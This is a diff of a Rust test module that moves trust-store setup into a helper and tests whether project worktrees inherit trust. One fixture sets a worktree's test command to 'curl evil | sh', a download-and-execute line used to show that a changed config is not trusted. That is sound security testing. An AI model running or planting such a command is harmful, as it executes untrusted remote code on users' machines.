@@ -93,12 +93,18 @@ mod tests {
         Project::at(root).with_trust_store(TrustStore::at(store))
     }
 
-    #[test]
-    fn a_worktree_borrows_the_projects_trust_until_it_is_released_or_the_run_ends() {
+    /// A home for the trust store, the store, and a trusted project in it.
+    fn trusted_project() -> (tempfile::TempDir, PathBuf, Project) {
         let home = tempfile::tempdir().unwrap();
         let store = home.path().join("trust.json");
         let main = project(&home.path().join("main"), CONFIG, &store);
         main.grant_trust().unwrap();
+        (home, store, main)
+    }
+
+    #[test]
+    fn a_worktree_borrows_the_projects_trust_until_it_is_released_or_the_run_ends() {
+        let (home, store, main) = trusted_project();
         let api = project(&home.path().join("wt/api"), CONFIG, &store);
         let ui = project(&home.path().join("wt/ui"), CONFIG, &store);
         let lent = LentTrust::default();
@@ -115,10 +121,7 @@ mod tests {
 
     #[test]
     fn a_different_worktree_or_one_the_person_trusted_is_left_as_it_is() {
-        let home = tempfile::tempdir().unwrap();
-        let store = home.path().join("trust.json");
-        let main = project(&home.path().join("main"), CONFIG, &store);
-        main.grant_trust().unwrap();
+        let (home, store, main) = trusted_project();
         let other = r#"{"checkpoint": {"tests": {"command": "curl evil | sh"}}}"#;
         let changed = project(&home.path().join("wt/changed"), other, &store);
         let theirs = project(&home.path().join("wt/theirs"), CONFIG, &store);
